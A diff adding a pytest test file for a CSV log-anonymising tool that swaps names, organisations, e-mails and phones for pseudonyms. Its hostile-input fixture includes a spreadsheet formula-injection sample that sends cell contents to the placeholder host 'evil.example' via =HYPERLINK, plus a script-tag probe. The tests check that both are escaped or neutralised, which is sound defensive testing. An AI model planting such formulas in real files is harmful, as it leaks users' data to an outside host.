@@ -1,0 +1,362 @@
+"""Sharing a log: an anonymised copy with no names, organisations, e-mails or phones, every row kept."""
+from __future__ import annotations
+
+import re
+import subprocess
+import sys
+from pathlib import Path
+
+import pandas as pd
+import pytest
+
+from helpers import log, share, workspace
+from helpers.forms.sharing import share_log_button
+
+ROOT = Path(__file__).resolve().parent.parent
+SAMPLE = ROOT / "data" / "sample_log.csv"
+KEPT = ["date", "status", "kind", "channel", "sector", "referrals", "may_use_name", "contact_details",
+        "thank_you_sent", "follow_up_on", "followed_up"]
+
+
+def identifying_terms(raw: pd.DataFrame) -> set[str]:
+    """Every whole name and organisation of a log, and each name token of 3+ letters (folded)."""
+    terms: set[str] = set()
+    for col in ("contact", "referred_by"):
+        for value in raw[col]:
+            if value.strip():
+                terms.add(share.fold(value))
+                terms.update(t for t in re.split(r"[^\w']+", share.fold(value)) if len(t) >= 3)
+    for value in raw["organisation"]:
+        if value.strip() and share.fold(value) not in share.GENERIC_ORGANISATIONS:
+            terms.add(share.fold(value))
+            terms.update(t for t in re.split(r"[^\w']+", share.fold(value))
+                         if len(t) >= 3 and t not in share.GENERIC_ORG_WORDS)
+    return terms
+
+
+def found_in(text: str, term: str) -> bool:
+    """A name in a text, ignoring case and accents; a name that is also a word ("grant") only capitalised."""
+    pattern = r"(?<!\w)" + r"\s+".join(map(re.escape, term.split())) + r"(?!\w)"
+    if term in share.WORD_NAMES:
+        return any(text[m.start()].isupper() for m in re.finditer(pattern, text, flags=re.IGNORECASE))
+    return re.search(pattern, share.fold(text)) is not None
+
+
+@pytest.fixture
+def shared_sample(tmp_path: Path) -> Path:
+    out = tmp_path / "shared.csv"
+    share.share_file(SAMPLE, out)
+    return out
+
+
+# ---------------------------------------------------------------------------------------
+# The sample log
+# ---------------------------------------------------------------------------------------
+def test_sample_shared_holds_no_name_or_organisation_in_any_column(shared_sample: Path):
+    original = log.load(SAMPLE).raw
+    terms = identifying_terms(original)
+    assert {"rosa delgado", "rosa", "delgado", "northgate health", "northgate", "medisync"} <= terms
+    shared = log.load(shared_sample).raw
+    assert list(shared.columns) == list(original.columns)
+    for col in shared.columns:
+        column_text = "\n".join(shared[col])
+        leaks = sorted(t for t in terms if found_in(column_text, t))
+        assert not leaks, f"column {col} still holds {leaks}"
+    whole = shared_sample.read_text(encoding="utf-8-sig")
+    assert not [t for t in terms if found_in(whole, t)]
+
+
+def test_sample_every_row_and_the_useful_columns_kept(shared_sample: Path):
+    original = log.load(SAMPLE)
+    shared = log.load(shared_sample)
+    assert len(shared.raw) == len(original.raw) == 27
+    assert list(shared.raw.index) == list(original.raw.index)
+    for col in KEPT:
+        assert shared.raw[col].tolist() == original.raw[col].tolist(), col
+    assert shared.problems == original.problems == []
+    assert shared.raw["contact"].str.fullmatch(r"Person \d\d").all()
+    assert set(shared.raw["organisation"]) >= {"Family", "Friends", "Classmates", "Organisation A"}
+
+
+def test_sample_referral_chains_survive(shared_sample: Path):
+    original = log.load(SAMPLE).raw
+    shared = log.load(shared_sample).raw
+    pseudo = dict(zip(original["contact"], shared["contact"]))
+    assert len(set(pseudo.values())) == len(pseudo), "two people share a pseudonym"
+    chains = 0
+    for row in original.index:
+        by = original.at[row, "referred_by"]
+        if by:
+            assert shared.at[row, "referred_by"] == pseudo[by]
+            chains += 1
+        else:
+            assert shared.at[row, "referred_by"] == ""
+    assert chains >= 20
+    # Rosa Delgado -> Jordan Reyes -> Aisha Karim: the same chain under pseudonyms.
+    rows = {c: r for r, c in original["contact"].items()}
+    jordan, aisha = rows["Jordan Reyes"], rows["Aisha Karim"]
+    assert shared.at[aisha, "referred_by"] == shared.at[jordan, "contact"]
+    assert shared.at[jordan, "referred_by"] == shared.at[rows["Rosa Delgado"], "contact"]
+
+
+def test_pseudonyms_are_stable(tmp_path: Path, shared_sample: Path):
+    again = tmp_path / "again.csv"
+    share.share_file(SAMPLE, again)
+    assert again.read_bytes() == shared_sample.read_bytes()
+    # Adding a row at the end keeps everyone's pseudonym.
+    text = SAMPLE.read_text(encoding="utf-8").rstrip("\n") + "\n2026-12-10,New Person,New Org,requested,,,,,,,,,,,,,,\n"
+    grown = tmp_path / "grown.csv"
+    grown.write_text(text, encoding="utf-8")
+    share.share_file(grown, tmp_path / "grown_shared.csv")
+    before = log.load(shared_sample).raw["contact"].tolist()
+    after = log.load(tmp_path / "grown_shared.csv").raw["contact"].tolist()
+    assert after[:-1] == before and after[-1] == "Person 28"
+
+
+def test_names_that_are_also_words(shared_sample: Path):
+    shared = log.load(shared_sample).raw
+    # Oliver Grant is in the sample; "grant reports" is about money, and stays.
+    assert "write grant reports" in "\n".join(shared["insights"])
+    p = share.pseudonyms(pd.DataFrame({"contact": ["Will Grant"], "referred_by": [""], "organisation": [""]}))
+    assert share.scrub_text("Grant said I will apply for a grant.", p) == "Person 01 said I will apply for a grant."
+
+
+def test_sharing_a_shared_log_changes_nothing(shared_sample: Path, tmp_path: Path):
+    twice = tmp_path / "twice.csv"
+    share.share_file(shared_sample, twice)
+    assert twice.read_bytes() == shared_sample.read_bytes()
+
+
+def test_check_shared_accepts_the_shared_sample_and_refuses_the_original(shared_sample: Path):
+    assert share.check_shared(shared_sample) == []
+    findings = share.check_shared(SAMPLE)
+    assert findings, "the original log names people"
+    assert findings[0].startswith("sample_log.csv: row 2, contact:")
+    assert "Rosa" not in "\n".join(findings), "the findings must not repeat the names"
+    assert any("organisation" in f for f in findings)
+
+
+# ---------------------------------------------------------------------------------------
+# Hostile and awkward logs
+# ---------------------------------------------------------------------------------------
+HOSTILE = """date,contact,organisation,status,referred_by,notes,feedback,thank_you_sent,kind,Phone,Notes about Tom Berg
+2026-03-02,José Núñez,Acme Widgets Ltd,held,,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",<script>alert(1)</script>,2026-03-02,real,+44 20 7946 0958,=SUM(A1:A9)
+2026-03-09,Tom Berg,Acme Widgets Ltd,held,José Núñez,"jose NUNEZ said mail tom.berg@acme.example or call (555) 010-7788",Ask ACME people; Berg's tip,ask Tom Berg,practice,555 0101 234,Tom is kind
+2026-03-10,Li Na,Zeta Labs,held,Tom,"Li Na and Li said hi; see https://linkedin.com/in/lina-zeta",-5 years,,real,,"@Tom Berg"
+2026-03-11,Mum,Family,held,,"Mum, then Tom",+1 idea,,practice,,
+"""
+
+
+@pytest.fixture
+def hostile(tmp_path: Path) -> tuple[log.Log, pd.DataFrame, Path]:
+    source = tmp_path / "hostile.csv"
+    source.write_text(HOSTILE, encoding="utf-8")
+    out = tmp_path / "hostile_shared.csv"
+    share.share_file(source, out)
+    return log.load(source), log.load(out).raw, out
+
+
+def test_hostile_names_accents_and_case(hostile):
+    original, shared, out = hostile
+    text = share.fold(out.read_text(encoding="utf-8-sig"))
+    for term in ["jose", "nunez", "tom", "berg", "acme", "widgets", "zeta", "mum"]:
+        assert not found_in(text, term), term
+    assert shared["contact"].tolist() == ["Person 01", "Person 02", "Person 03", "Person 04"]
+    assert shared.at[3, "notes"].startswith("Person 01 said mail [e-mail] or call [phone]")
+    assert shared.at[3, "feedback"] == "Ask Organisation A people; Person 02's tip"
+
+
+def test_hostile_first_name_referrer_joins_the_chain(hostile):
+    _, shared, _ = hostile
+    assert shared.at[4, "referred_by"] == "Person 02"   # "Tom" is Tom Berg, the only Tom
+    assert shared.at[3, "referred_by"] == "Person 01"
+
+
+def test_short_name_tokens_only_go_with_the_whole_name(hostile):
+    _, shared, _ = hostile
+    # "Li Na" is removed whole; "Li" alone (2 letters) is too short to remove safely.
+    assert shared.at[4, "notes"] == "Person 03 and Li said hi; see [link]"
+
+
+def test_hostile_contact_details_and_unknown_columns(hostile):
+    _, shared, out = hostile
+    assert "Phone" in shared.columns
+    assert shared["Phone"].tolist() == ["[phone]", "[phone]", "", ""]
+    assert "Notes about Person 02" in shared.columns, "a name in a column header is removed too"
+    assert shared["Notes about Person 02"].tolist() == ["=SUM(A1:A9)", "Person 02 is kind", "@Person 02", ""]
+    raw = out.read_text(encoding="utf-8-sig")
+    for leak in ["7946", "010-7788", "acme.example", "linkedin", "0101"]:
+        assert leak not in raw
+
+
+def test_hostile_unreadable_cell_in_a_kept_column_is_scrubbed(hostile):
+    original, shared, _ = hostile
+    assert any(p.row == 3 and p.column == "thank_you_sent" for p in original.problems)
+    assert shared.at[3, "thank_you_sent"] == "ask Person 02"
+    assert shared.at[2, "thank_you_sent"] == "2026-03-02"
+
+
+def test_formulas_escaped_in_the_file_and_readable_back(hostile):
+    original, shared, out = hostile
+    lines = out.read_text(encoding="utf-8-sig").splitlines()
+    assert "'=HYPERLINK(" in lines[1]
+    assert ",'-5 years," in lines[3]
+    assert ",'+1 idea," in lines[4]
+    assert ",'=SUM(A1:A9)" in lines[1] and ",'@Person 02" in lines[3]
+    assert shared.at[2, "Notes about Person 02"] == "=SUM(A1:A9)"   # reading undoes the escaping
+    assert shared.at[2, "notes"] == '=HYPERLINK("[link]'            # the link inside is removed
+    assert shared.at[2, "feedback"] == "<script>alert(1)</script>"   # kept as text, never run
+
+
+def test_hostile_shared_file_passes_check_and_the_original_does_not(hostile, tmp_path: Path):
+    _, _, out = hostile
+    assert share.check_shared(out) == []
+    findings = share.check_shared(tmp_path / "hostile.csv")
+    joined = "\n".join(findings)
+    assert "row 2, contact" in joined and "row 3, notes: holds an e-mail address" in joined
+    assert "row 2, Phone: holds a phone number" in joined
+    assert "Núñez" not in joined and "7946" not in joined
+
+
+def test_semicolon_log_keeps_its_separator(tmp_path: Path):
+    source = tmp_path / "semi.csv"
+    source.write_text("date;contact;organisation;status;notes\n2026-01-05;Ana Silva;Bluebird Cafe;held;Ana: 5 stars\n",
+                      encoding="utf-8")
+    out = tmp_path / "semi_shared.csv"
+    share.share_file(source, out)
+    assert out.read_text(encoding="utf-8-sig").splitlines() == [
+        "date;contact;organisation;status;notes", "2026-01-05;Person 01;Organisation A;held;Person 01: 5 stars"]
+
+
+def test_header_only_log(tmp_path: Path):
+    source = tmp_path / "empty.csv"
+    source.write_text(",".join(log.COLUMNS) + "\n", encoding="utf-8")
+    result = share.share_file(source, tmp_path / "out.csv")
+    assert result.rows == 0 and result.leftovers == []
+    assert (tmp_path / "out.csv").read_text(encoding="utf-8-sig").strip() == ",".join(log.COLUMNS)
+
+
+def test_check_shared_on_files_that_cannot_be_read(tmp_path: Path):
+    bad = tmp_path / "bad.csv"
+    bad.write_bytes(b"\x00\x01binary")
+    assert "bad.csv is not a text file" in share.check_shared(bad)[0]
+    assert "does not exist" in share.check_shared(tmp_path / "none.csv")[0]
+
+
+def test_check_shared_catches_a_tampered_copy(shared_sample: Path, tmp_path: Path):
+    text = shared_sample.read_text(encoding="utf-8-sig").replace("Person 05", "Jordan Reyes", 1)
+    text = text.replace("Organisation B", "Lakeside Clinic", 1)
+    tampered = tmp_path / "tampered.csv"
+    tampered.write_text(text, encoding="utf-8")
+    findings = share.check_shared(tampered)
+    assert "tampered.csv: row 6, contact: holds what looks like a real name" in findings[0]
+    assert any("row 7, organisation" in f for f in findings)
+    assert "Jordan" not in "\n".join(findings)
+
+
+# ---------------------------------------------------------------------------------------
+# The learner's own log, the button and the command line
+# ---------------------------------------------------------------------------------------
+def test_share_learner_log_without_a_log(workspace: Path):
+    path, message = share.share_learner_log()
+    assert path is None
+    assert "no log of your own yet" in message
+    assert not (workspace / share.SHARED_NAME).exists()
+
+
+def test_share_learner_log_writes_shared_log(workspace: Path):
+    workspace.mkdir(parents=True, exist_ok=True)
+    (workspace / "interview_log.csv").write_bytes(SAMPLE.read_bytes())
+    path, message = share.share_learner_log()
+    assert path == workspace / share.SHARED_NAME and path.exists()
+    assert "27 interview(s)" in message and "27 people" in message
+    first = path.read_bytes()
+    share.share_learner_log()
+    assert path.read_bytes() == first, "sharing again rewrites the same file"
+    assert (workspace / "interview_log.csv").read_bytes() == SAMPLE.read_bytes(), "the log is untouched"
+
+
+def test_share_learner_log_unreadable(workspace: Path):
+    workspace.mkdir(parents=True, exist_ok=True)
+    (workspace / "interview_log.csv").write_text("nothing,useful\n1,2\n", encoding="utf-8")
+    path, message = share.share_learner_log()
+    assert path is None and "could not be read" in message and "'contact'" in message
+
+
+def test_share_button_idle_then_writes_and_previews(workspace: Path):
+    form = share_log_button()
+    assert not (workspace / share.SHARED_NAME).exists(), "building the form writes nothing"
+    form.controls["share"].click()
+    assert "no log of your own yet" in form.status.value
+    workspace.mkdir(parents=True, exist_ok=True)
+    (workspace / "interview_log.csv").write_bytes(SAMPLE.read_bytes())
+    form.controls["share"].click()
+    assert (workspace / share.SHARED_NAME).exists()
+    assert "Wrote shared_log.csv" in form.status.value
+    preview = form.extras["preview"].value
+    assert "Person 01" in preview and "Rosa" not in preview and "Northgate" not in preview
+
+
+def test_share_button_found_through_forms_once_registered():
+    from helpers import forms
+
+    if "sharing" not in forms._MODULES:
+        pytest.skip("helpers/forms/__init__.py does not list 'sharing' in _MODULES yet (the lead adds it)")
+    assert forms.share_log_button is share_log_button
+
+
+def run_cli(*args: str, cwd: Path) -> subprocess.CompletedProcess:
+    return subprocess.run([sys.executable, "-m", "helpers.instructor_cli", *args],
+                          capture_output=True, text=True, cwd=cwd)
+
+
+def test_cli_share(tmp_path: Path):
+    proc = run_cli("share", str(SAMPLE), "--out", str(tmp_path / "out" / "shared.csv"), cwd=tmp_path)
+    assert proc.returncode == 0, proc.stderr
+    assert "Wrote shared.csv: 27 interview(s)" in proc.stdout
+    assert share.check_shared(tmp_path / "out" / "shared.csv") == []
+
+
+@pytest.mark.parametrize("case", ["missing", "binary", "same-file", "out-is-folder"])
+def test_cli_share_errors_exit_2_without_traceback(case: str, tmp_path: Path):
+    source = tmp_path / "log.csv"
+    out = tmp_path / "shared.csv"
+    if case == "binary":
+        source.write_bytes(b"PK\x03\x04\x00\x00")
+    elif case == "same-file":
+        source.write_bytes(SAMPLE.read_bytes())
+        out = source
+    elif case == "out-is-folder":
+        source.write_bytes(SAMPLE.read_bytes())
+        out = tmp_path / "folder"
+        out.mkdir()
+    proc = run_cli("share", str(source), "--out", str(out), cwd=tmp_path)
+    assert proc.returncode == 2
+    assert proc.stderr.startswith("error: ") and "Traceback" not in proc.stderr
+    if case == "same-file":
+        assert source.read_bytes() == SAMPLE.read_bytes()
+
+
+def test_cli_share_help(tmp_path: Path):
+    proc = run_cli("share", "--help", cwd=tmp_path)
+    assert proc.returncode == 0 and "Person 01" in proc.stdout
+    proc = run_cli("share", str(SAMPLE), cwd=tmp_path)
+    assert proc.returncode == 2 and "--out" in proc.stderr
+
+
+def test_nothing_written_to_the_workspace_by_the_cli(tmp_path: Path):
+    run_cli("share", str(SAMPLE), "--out", str(tmp_path / "s.csv"), cwd=tmp_path)
+    assert not workspace.folder(create=False).exists()
+
+
+def test_contact_written_as_a_role_keeps_the_sector(tmp_path: Path):
+    source = tmp_path / "roles.csv"
+    source.write_text("date,contact,organisation,status,sector,notes\n"
+                      "2026-02-01,Healthcare recruiter,Brightside Care,held,Healthcare,The Healthcare recruiter was kind\n",
+                      encoding="utf-8")
+    out = tmp_path / "roles_shared.csv"
+    share.share_file(source, out)
+    shared = log.load(out).raw
+    assert shared.loc[2, "sector"] == "Healthcare"
+    assert shared.loc[2, "notes"] == "The Person 01 was kind"
+    assert shared.loc[2, "organisation"] == "Organisation A"
